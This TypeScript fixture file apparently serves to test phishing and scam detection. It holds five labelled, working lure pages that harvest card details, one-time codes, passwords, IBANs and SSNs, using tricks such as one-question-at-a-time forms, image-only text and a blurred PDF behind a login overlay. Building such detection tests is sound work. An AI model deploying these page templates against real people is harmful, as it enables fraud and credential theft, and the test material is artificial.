import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';
import { b64, cssApp, cssPlain, doc, pdfRoute } from '../parts/q-kit.js';

// Quiet kits: one question at a time, lures in images and PDF frames, minimal wallet pages.

export const entries: Entry[] = [
{
  id: 'q-phish-bank-onefield-at-a-time-sv',
  label: 'phishing',
  kind: 'stepwise-form',
  url: 'https://kund-verifiering-se.com/start',
  body: doc({
    lang: 'sv',
    title: 'Verifiering',
    css: cssApp('#0f4c81') + '.dots{display:flex;gap:6px;margin-bottom:16px}.dots i{width:8px;height:8px;border-radius:50%;background:#ddd}.dots i.on{background:#0f4c81}',
    body: `<div class="wrap"><div class="box"><div class="dots" id="d"></div><div id="q"></div></div></div>
<script>
var s=[['Personnummer','ÅÅÅÅMMDD-XXXX','text'],['Kortnummer','','text'],['Giltig till','MM/ÅÅ','text'],['CVC','','text'],['Engångskod från din bank','','text']],i=0,a=[];
function r(){document.getElementById('d').innerHTML=s.map(function(_,j){return '<i'+(j<=i?' class="on"':'')+'></i>'}).join('');
document.getElementById('q').innerHTML='<h1>'+s[i][0]+'</h1><p>Vi behöver bekräfta att kontot tillhör dig innan återbetalningen kan göras.</p><input id="v" placeholder="'+s[i][1]+'"><button id="n">Fortsätt</button>';
document.getElementById('n').onclick=function(){a.push(document.getElementById('v').value);fetch('/start/x',{method:'POST',body:JSON.stringify({i:i,v:a[i]})});i++;if(i<s.length)r();else document.getElementById('q').innerHTML='<h1>Tack</h1><p>Återbetalningen behandlas inom 3 bankdagar.</p>'};}
r();
</script>`,
  }),
  routes: { 'kund-verifiering-se.com/start/x': jsonRoute({}) },
},
{
  id: 'q-phish-image-only-lure-alt-text',
  label: 'phishing',
  kind: 'image-lure',
  url: 'https://secure-msg-relay.com/m/5fa1',
  body: doc({
    title: ' ',
    css: 'body{margin:0;background:#eef1f5;font-family:Arial}.c{width:420px;margin:70px auto;background:#fff;padding:20px;border:1px solid #dde}input{width:100%;padding:9px;margin:5px 0;box-sizing:border-box}button{width:100%;padding:10px;border:0;background:#2b579a;color:#fff}',
    body: `<div class="c"><img src="/m/5fa1/h.png" width="380" height="120" alt="You have received an encrypted message. Enter your email and password to decrypt and read it." style="display:block;background:#dbe4f0">
<form method="post" action="/m/5fa1/d"><input name="a" type="email" placeholder="​"><input name="b" type="password" placeholder="​"><button>&#8594;</button></form></div>`,
  }),
  routes: { 'secure-msg-relay.com/m/5fa1/h.png': pngRoute(219, 228, 240), 'secure-msg-relay.com/m/5fa1/d': redirectRoute(302, 'https://secure-msg-relay.com/m/5fa1?r=2') },
},
{
  id: 'q-phish-real-pdf-iframe-overlay',
  label: 'phishing',
  kind: 'pdf-viewer-lure',
  url: 'https://statements-archive-view.com/doc/view?id=ST-1182',
  body: doc({
    title: 'Statement ST-1182',
    css: 'html,body{margin:0;height:100%}iframe{border:0;width:100%;height:100%;filter:blur(3px)}#o{position:fixed;left:50%;top:30%;transform:translateX(-50%);background:#fff;width:340px;padding:24px;border-radius:8px;box-shadow:0 10px 40px rgba(0,0,0,.35);font-family:Arial}#o input{width:100%;padding:9px;margin:6px 0;box-sizing:border-box}#o button{width:100%;padding:10px;background:#c2410c;color:#fff;border:0}',
    body: `<iframe src="/doc/files/ST-1182.pdf" title="Statement"></iframe>
<div id="o" style="display:none"><b>Confirm it's you</b><p style="font-size:13px;color:#555">This statement contains account information. Sign in with the email address it was sent to.</p><input id="e" placeholder="Email"><input id="p" type="password" placeholder="Password"><button id="b">Unlock</button></div>
<script>setTimeout(function(){document.getElementById('o').style.display='block'},2200);document.getElementById('b').onclick=function(){fetch('/doc/unlock',{method:'POST',body:JSON.stringify({e:e.value,p:p.value})})};</script>`,
  }),
  routes: {
    'statements-archive-view.com/doc/files/ST-1182.pdf': pdfRoute(['ACCOUNT STATEMENT ST-1182', 'Period: 01 Oct - 31 Oct', 'Opening balance        12,402.10', 'Payments received       8,110.00', 'Closing balance        20,512.10'], 'ST-1182.pdf'),
    'statements-archive-view.com/doc/unlock': jsonRoute({ ok: false }),
  },
},
{
  id: 'q-scam-job-offer-equipment-check',
  label: 'scam',
  kind: 'hr-scam',
  url: 'https://careers-halvorsen-analytics.com/onboarding/welcome',
  body: doc({
    title: 'Welcome aboard – Halvorsen Analytics',
    css: cssPlain('#0f766e'),
    body: `<header class="top"><span class="name">Halvorsen Analytics</span><span class="muted">Remote onboarding</span></header>
<main><div class="card">
<h2 style="margin-top:0">Congratulations on your new role as Data Entry Specialist (Remote)</h2>
<p>We were impressed by your chat interview and are pleased to confirm your offer at $32/hour, 25–30 hours per week.</p>
<p>All remote staff work on company-approved equipment. You will receive a check for $4,850 by mail to purchase your laptop and software from our authorised vendor. Please deposit the check by mobile deposit and send the equipment payment to the vendor the same day so your setup is not delayed. Any remaining balance is yours to keep as a welcome bonus.</p>
<h3>Before your start date</h3>
<form method="post" action="/onboarding/details"><div class="row"><div><label>Full legal name</label><input name="name"></div><div><label>Date of birth</label><input name="dob"></div></div>
<label>Mailing address (for the check)</label><input name="addr"><div class="row"><div><label>Bank name</label><input name="bank"></div><div><label>Mobile banking username</label><input name="ib_user"></div></div>
<label>SSN (for W-4)</label><input name="ssn"><p></p><button>Submit onboarding details</button></form></div></main>
<footer>Halvorsen Analytics LLC · Equal opportunity employer</footer>`,
  }),
  routes: { 'careers-halvorsen-analytics.com/onboarding/details': htmlRoute('<p>Thank you. HR will contact you on Telegram with your start date.</p>') },
},
{
  id: 'q-phish-toeslagen-refund-one-question-nl',
  label: 'phishing',
  kind: 'stepwise-form',
  url: 'https://teruggave-toeslagen.nl/aanvraag',
  body: doc({
    lang: 'nl',
    title: 'Teruggave',
    css: cssApp('#154273'),
    body: `<div class="wrap"><div class="box" id="b"></div></div>
<script>
var v=[['Wat is uw naam?','naam'],['Wat is uw geboortedatum?','gebdat'],['Wat is uw IBAN?','iban'],['Bij welke bank zit u?','bank'],['Vul uw pasnummer in','pas'],['Vervaldatum van uw pas','vd']],i=0,d={};
function q(){var b=document.getElementById('b');b.innerHTML='<p style="color:#888;font-size:13px">'+(i+1)+'/'+v.length+'</p><h1>'+v[i][0]+'</h1><input id="x"><button id="n">Volgende</button>';
document.getElementById('n').onclick=function(){d[v[i][1]]=document.getElementById('x').value;i++;if(i<v.length)q();else{fetch('/aanvraag/k',{method:'POST',body:JSON.stringify(d)});b.innerHTML='<h1>Bedankt</h1><p>U ontvangt € 412,60 binnen 5 werkdagen.</p>'}};}
q();
</script>`,
  }),
  routes: { 'teruggave-toeslagen.nl/aanvraag/k': jsonRoute({}) },
},
];
